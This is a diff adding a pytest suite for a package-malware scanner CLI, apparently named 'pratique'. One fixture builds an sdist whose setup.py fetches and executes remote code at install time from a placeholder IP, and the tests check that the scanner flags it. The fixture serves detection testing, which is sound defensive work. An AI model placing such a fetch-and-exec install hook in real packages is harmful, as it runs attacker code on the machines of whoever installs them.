@@ -1,0 +1,108 @@
+"""`pratique screen` with the real engine."""
+
+from __future__ import annotations
+
+import hashlib
+import io
+import json
+import tarfile
+from pathlib import Path
+
+import jsonschema
+import pytest
+
+from pratique.cli import main
+
+_SCHEMA = json.loads((Path(__file__).parents[2] / "docs" / "report.schema.json").read_text(encoding="utf-8"))
+_HONEST = {"PKG-INFO": "Metadata-Version: 2.1\nName: example-pkg\nVersion: 1.0\n", "example_pkg/__init__.py": "X = 1\n"}
+_DROPPER = {
+    **_HONEST,
+    "setup.py": (
+        "from urllib.request import urlopen\n"
+        "from setuptools import setup\n"
+        "exec(urlopen('http://192.0.2.7/stage').read())\n"
+        "setup(name='example-pkg', version='1.0')\n"
+    ),
+}
+
+
+def _sdist(folder: Path, files: dict[str, str], name: str = "example_pkg-1.0.tar.gz") -> Path:
+    path = folder / name
+    with tarfile.open(path, "w:gz") as archive:
+        for member, text in files.items():
+            info = tarfile.TarInfo(f"example_pkg-1.0/{member}")
+            info.size = len(text.encode())
+            archive.addfile(info, io.BytesIO(text.encode()))
+    return path
+
+
+def _lines(capsys: pytest.CaptureFixture[str]) -> list[dict[str, object]]:
+    lines = [json.loads(line) for line in capsys.readouterr().out.splitlines()]
+    for line in lines:
+        jsonschema.validate(line, _SCHEMA)
+    return lines
+
+
+def test_an_honest_file_is_clean(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    """Nothing found: status 0, and the line tells digest and size of the file."""
+    path = _sdist(tmp_path, _HONEST)
+    assert main(["screen", str(path), "--format", "jsonl"]) == 0
+    (line,) = _lines(capsys)
+    assert (line["target"], line["verdict"], line["error"]) == (str(path), "clean", None)
+    assert (line["sha256"], line["bytes"]) == (hashlib.sha256(path.read_bytes()).hexdigest(), path.stat().st_size)
+
+
+def test_a_dropper_is_malicious(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    """Code fetched and executed while installing: status 1, and a finding that says file, line and phase."""
+    assert main(["screen", str(_sdist(tmp_path, _DROPPER)), "--format", "jsonl"]) == 1
+    (line,) = _lines(capsys)
+    assert line["verdict"] == "malicious"
+    findings = line["findings"]
+    assert isinstance(findings, list)
+    assert ("setup.py", 3, "install", "second-stage") in {
+        (f["path"], f["line"], f["phase"], f["behaviour"]) for f in findings
+    }
+
+
+def test_a_folder_has_a_line_per_archive_and_an_error_wins(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    """Each archive is reported; one that cannot be opened makes the status 2 whatever else was found."""
+    _sdist(tmp_path, _DROPPER)
+    (tmp_path / "broken-1.0.zip").write_bytes(b"not an archive")
+    assert main(["screen", str(tmp_path), "--format", "jsonl", "--jobs", "2"]) == 2
+    verdicts = {Path(str(line["target"])).name: line["verdict"] for line in _lines(capsys)}
+    assert verdicts == {"example_pkg-1.0.tar.gz": "malicious", "broken-1.0.zip": "error"}
+
+
+def test_an_unpacked_tree_is_judged_like_its_archive(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    """The same content gives the same verdict, as one line."""
+    for name, text in _DROPPER.items():
+        path = tmp_path / "tree" / name
+        path.parent.mkdir(parents=True, exist_ok=True)
+        path.write_text(text, encoding="utf-8")
+    assert main(["screen", str(tmp_path / "tree"), "--format", "jsonl"]) == 1
+    (line,) = _lines(capsys)
+    assert line["verdict"] == "malicious"
+
+
+def test_text_explains_a_dropper(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    """A person sees the verdict, the place, the code and why it matters."""
+    assert main(["screen", str(_sdist(tmp_path, _DROPPER))]) == 1
+    out = capsys.readouterr().out
+    for part in ("MALICIOUS", "setup.py:3", "exec(urlopen(", "why", "1 artifact"):
+        assert part in out
+
+
+def test_an_unknown_rule_is_bad_usage(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
+    """A typing error in a rule's name does not screen with no rules at all."""
+    assert main(["screen", str(_sdist(tmp_path, _DROPPER)), "--rules", "no-such-rule"]) == 2
+    assert "pratique rules" in capsys.readouterr().err
+
+
+def test_rules_are_listed_and_explained(capsys: pytest.CaptureFixture[str]) -> None:
+    """Every rule of the list has a page with examples of both kinds."""
+    assert main(["rules"]) == 0
+    for name in [line.split()[0] for line in capsys.readouterr().out.splitlines()]:
+        assert main(["rules", name]) == 0
+        page = capsys.readouterr().out
+        assert "It fires on:" in page
+        assert "It stays quiet on:" in page
